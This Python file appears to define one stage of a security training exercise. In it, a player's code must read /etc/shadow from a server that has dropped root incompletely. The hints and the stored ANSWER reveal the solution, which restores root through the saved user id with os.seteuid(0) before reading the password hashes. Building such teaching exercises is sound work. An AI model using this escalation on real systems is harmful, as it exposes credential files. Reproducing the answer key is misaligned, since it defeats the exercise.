"""Read `/etc/shadow` from inside the server, after it has given up root."""

from prover import Target

from .stage import WEB, Stage

INPUT = "python"
LABEL = "What the server runs for you; `os` is there, and `read(name)` reads a file"
START = """\
print(os.geteuid())
print(read("/etc/shadow"))
"""
HINTS = (
    "A process has three user ids. `os.getresuid()` shows them all.",
    "The effective id may be set to the saved one, and that is 0.",
)
ANSWER = """\
os.seteuid(0)
print(read("/etc/shadow"))
"""


def attempt(target: Target, stage: Stage, given: object) -> bool:
    import os

    found: list[str] = []

    def read(name: str) -> str:
        found.append(stage.read(name))
        return found[-1]

    def serve() -> str:
        try:
            given(os=os, read=read)  # type: ignore[operator]
        except PermissionError as error:
            print(error)
        return "served"

    with stage.as_root():
        target.serve_as(WEB, WEB, serve)
    return stage.secret in found
